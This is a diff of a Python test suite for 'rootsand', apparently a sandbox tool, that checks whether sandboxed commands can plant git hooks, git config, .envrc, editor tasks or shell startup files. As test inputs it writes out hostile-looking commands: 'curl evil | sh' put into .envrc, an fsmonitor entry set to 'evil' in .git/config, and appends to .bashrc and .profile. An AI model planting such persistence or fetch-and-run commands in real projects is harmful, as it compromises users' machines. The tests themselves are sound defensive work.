@@ -50,16 +50,19 @@ def test_hooks_git_config_and_envrc_cannot_be_planted_but_the_project_is_writabl
         "sh: 1: cannot create .git/hooks/pre-commit: Read-only file system",
         "sh: 1: cannot create .git/hooks/pre-commit.sample: Read-only file system",
         "sh: 1: cannot create .git/config: Read-only file system",
-        "sh: 1: cannot create .envrc: Read-only file system",
-        "mv: cannot move '.git' to '.git-old': Device or resource busy",
-        "mkdir: cannot create directory '.vscode/x': Read-only file system"]
+        "mv: cannot move '.git' to '.git-old': Device or resource busy"]
     assert r.stdout == "ok\n"
     assert (repo / "main.o").read_text() == "built\n"
-    # On the host: the hooks and config as they were, nothing stray, git sees only the build's file.
+    # What did not exist could be made (the directory looks as it is), and is moved aside after the run.
+    assert [line for line in said_made(r)] == [
+        f"rootsand: warning: {repo}/{name} was made during the run (a protected path that was not there before: "
+        f"if you made it yourself meanwhile, rename it back): renamed to {name}.rootsand-quarantine-STAMP (rename it "
+        "back if you trust it)" for name in (".envrc", ".vscode")]
+    # On the host: the hooks and config as they were, git sees only the build's file.
     assert listing(repo / ".git" / "hooks") == hooks_before
     assert (repo / ".git" / "config").read_text() == config_before
-    assert listing(repo) == [".git", "main.c", "main.o"]
-    assert git(repo, "status", "--porcelain") == status_before + "?? main.o\n"
+    assert names_in(repo) == [".envrc.rootsand-quarantine-STAMP", ".git", ".vscode.rootsand-quarantine-STAMP",
+                              "main.c", "main.o"]
 
 
 def test_git_config_cannot_be_changed_through_git_itself(repo):
@@ -69,9 +72,22 @@ def test_git_config_cannot_be_changed_through_git_itself(repo):
     assert "fsmonitor" not in (repo / ".git" / "config").read_text()
 
 
-def test_in_a_directory_without_git_no_repository_can_be_planted(tmp_path):
-    r = sandbox("sh", "-c", "mkdir -p .git/hooks; git init -q . 2>/dev/null; echo $?; ls -a", cwd=tmp_path,
-                env=env_in(tmp_path))
+def test_in_a_directory_without_git_a_repository_made_inside_is_moved_aside(tmp_path):
+    # Nothing is made for the run (the directory looks as it is, inside and on the host); what the run
+    # makes at a protected name is moved out of the way once it ends.
+    r = sandbox("sh", "-c", "ls -a; git init -q . && echo '[core] fsmonitor = evil' >> .git/config && echo inited",
+                cwd=tmp_path, env=env_in(tmp_path))
+    assert (r.returncode, r.stdout.split()) == (0, [".", "..", "inited"]), r.stderr
+    assert said_made(r) == [f"rootsand: warning: {tmp_path}/.git was made during the run (a protected path that "
+                            "was not there before: if you made it yourself meanwhile, rename it back): renamed to "
+                            ".git.rootsand-quarantine-STAMP (rename it back if you trust it)"]
+    assert names_in(tmp_path) == [".git.rootsand-quarantine-STAMP"]
+
+
+def test_in_the_agent_profile_no_repository_can_be_planted(tmp_path):
+    # placeholders = true: an absent protected path is made empty and read-only for the run.
+    r = sandbox("sh", "-c", "mkdir -p .git/hooks; git init -q . 2>/dev/null; echo $?; ls -a",
+                opts=["--profile", "agent"], cwd=tmp_path, env=env_in(tmp_path))
     assert r.returncode == 0
     assert command_stderr(r) == ["mkdir: cannot create directory '.git/hooks': Read-only file system"]
     assert r.stdout.split() == ["128", ".", "..", ".envrc", ".git", ".gitmodules", ".idea", ".vscode"]
@@ -82,7 +98,10 @@ def test_verbose_lists_the_protected_paths(repo):
     r = sandbox("true", opts=["-v"], cwd=repo, env=env_in(repo), check_rc=0)
     lines = [line for line in r.stderr.splitlines() if line.startswith("rootsand: protected:")]
     assert lines == [f"rootsand: protected: {repo}/.git/hooks (read-only)",
-                     f"rootsand: protected: {repo}/.git/config (read-only)"] + [
+                     f"rootsand: protected: {repo}/.git/config (read-only)"]
+    r = sandbox("true", opts=["-v", "--profile", "agent"], cwd=repo, env=env_in(repo), check_rc=0)
+    lines = [line for line in r.stderr.splitlines() if line.startswith("rootsand: protected:")]
+    assert lines == [f"rootsand: protected: {repo}/.git (read-only)"] + [
         f"rootsand: protected: {repo}/{name} (read-only, made for the run, removed at exit)"
         for name in (".gitmodules", ".envrc", ".vscode", ".idea")]
 
@@ -135,7 +154,7 @@ def stop(proc, sig=signal.SIGTERM):
 
 
 def test_what_a_killed_launcher_made_is_removed_by_the_next_command(tmp_path):
-    proc, pid1 = start(tmp_path)
+    proc, pid1 = start(tmp_path, "--profile", "agent")
     try:
         assert ".envrc" in listing(tmp_path)
         proc.kill()
@@ -154,8 +173,8 @@ def test_a_killed_launchers_leftovers_go_while_another_sandbox_runs(tmp_path):
     running_dir, killed_dir = tmp_path / "running", tmp_path / "killed"
     running_dir.mkdir()
     killed_dir.mkdir()
-    running, _ = start(running_dir)
-    killed, killed_pid1 = start(killed_dir)
+    running, _ = start(running_dir, "--profile", "agent")
+    killed, killed_pid1 = start(killed_dir, "--profile", "agent")
     try:
         killed.kill()
         killed.wait()
@@ -170,9 +189,9 @@ def test_a_killed_launchers_leftovers_go_while_another_sandbox_runs(tmp_path):
     assert listing(running_dir) == []
 
 
-def _run_with_a_pause(directory, script_after):
+def _run_with_a_pause(directory, script_after, *opts):
     """A sandbox in `directory` that says "ready", waits for a line on stdin, then runs `script_after`."""
-    return subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", f"echo ready; read x; {script_after}"],
+    return subprocess.Popen(rootsand_argv() + ["run", *opts, "--", "sh", "-c", f"echo ready; read x; {script_after}"],
                             cwd=directory, env=env_in(directory), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
 
@@ -185,7 +204,8 @@ def test_a_protection_lifted_from_outside_during_the_run_is_caught_at_exit(tmp_p
     if existing:
         (tmp_path / ".envrc").write_text("export MINE=1\n")
     write = "echo 'curl evil | sh' > .envrc" + ("" if existing else " && mkdir -p .vscode && echo {} > .vscode/tasks.json")
-    proc = _run_with_a_pause(tmp_path, write + " && echo written")
+    # (an absent one is a placeholder only in the agent profile; elsewhere it is checked after the run)
+    proc = _run_with_a_pause(tmp_path, write + " && echo written", *([] if existing else ["--profile", "agent"]))
     assert proc.stdout.readline() == "ready\n"
     os.unlink(tmp_path / ".envrc")  # as `git clean -fdx` would
     if not existing:
@@ -220,7 +240,9 @@ def test_a_lifted_protection_is_caught_though_a_second_sandbox_started_meanwhile
 def test_under_fakeroot_what_protection_makes_is_the_users(tmp_path):
     # Root inside is a subordinate id there: placeholders made as root would belong to an id whose files
     # the user cannot remove, and a leftover .git of that id would get a second run's .git/config inside.
-    proc, pid1 = start(tmp_path, "--profile", "fakeroot")
+    profile = tmp_path.parent / f"{tmp_path.name}-fakeroot-placeholders.toml"
+    profile.write_text('extends = "fakeroot"\n[security]\nplaceholders = true\n')
+    proc, pid1 = start(tmp_path, "--profile", str(profile))
     try:
         made = {name: os.lstat(tmp_path / name).st_uid for name in (".git", ".envrc", ".vscode")}
         assert made == dict.fromkeys(made, os.getuid())
@@ -237,8 +259,8 @@ def test_under_fakeroot_what_protection_makes_is_the_users(tmp_path):
 
 
 def test_two_sandboxes_sharing_a_directory_keep_each_others_protection(tmp_path):
-    first, _ = start(tmp_path)
-    second, _ = start(tmp_path)
+    first, _ = start(tmp_path, "--profile", "agent")
+    second, _ = start(tmp_path, "--profile", "agent")
     try:
         stop(first)  # it made .envrc; the second covers it too: it must stay while the second runs
         assert ".envrc" in listing(tmp_path)
@@ -252,21 +274,31 @@ def test_two_sandboxes_sharing_a_directory_keep_each_others_protection(tmp_path)
     assert listing(tmp_path) == []
 
 
-def test_from_home_the_shell_files_are_protected():
+def test_from_home_the_shell_files_are_protected(tmp_path):
+    work = os.path.join(HOME, f"work-{tmp_path.name}")
+    os.mkdir(work)
     before = listing(HOME)
-    r = sandbox("sh", "-c", "echo evil >> .bashrc; echo evil >> .profile; mkdir -p .ssh; "
-                "echo key >> .ssh/authorized_keys; mkdir -p .local/bin; echo x > .local/bin/ls; echo ok > ok.txt",
-                cwd=HOME, env=env_in(HOME))
     try:
+        r = sandbox("sh", "-c", "echo evil >> .bashrc; echo evil >> .profile; mkdir -p .ssh; "
+                    "mkdir -p .local/bin; echo ok > ok.txt; echo ok > " + os.path.basename(work) + "/ok.txt",
+                    cwd=HOME, env=env_in(HOME))
         assert r.stdout == "" and r.returncode == 0
         errors = command_stderr(r)
-        assert "sh: 1: cannot create .bashrc: Read-only file system" in errors
-        assert "sh: 1: cannot create .ssh/authorized_keys: Read-only file system" in errors
-        assert "sh: 1: cannot create .local/bin/ls: Read-only file system" in errors
-        assert (os.path.join(HOME, "ok.txt")) and open(os.path.join(HOME, "ok.txt")).read() == "ok\n"
-        assert listing(HOME) == sorted(before + ["ok.txt"])
+        assert errors == ["sh: 1: cannot create .bashrc: Read-only file system",
+                          "sh: 1: cannot create .profile: Read-only file system",
+                          "mkdir: cannot create directory '.ssh': Read-only file system",
+                          "mkdir: cannot create directory '.local': Read-only file system",
+                          "sh: 1: cannot create ok.txt: Read-only file system"]
+        assert open(os.path.join(work, "ok.txt")).read() == "ok\n"  # the directories in the home stay writable
+        assert listing(HOME) == before
     finally:
-        os.unlink(os.path.join(HOME, "ok.txt"))
+        subprocess.run(["rm", "-rf", work], check=True)
+
+
+def said_made(done) -> list[str]:
+    """rootsand's warnings about protected paths made during the run, the time in the names as STAMP."""
+    return [re.sub(r"rootsand-quarantine-\d{8}-\d{6}", "rootsand-quarantine-STAMP", line)
+            for line in done.stderr.splitlines() if "was made during the run" in line]
 
 
 def said(done) -> list[str]:
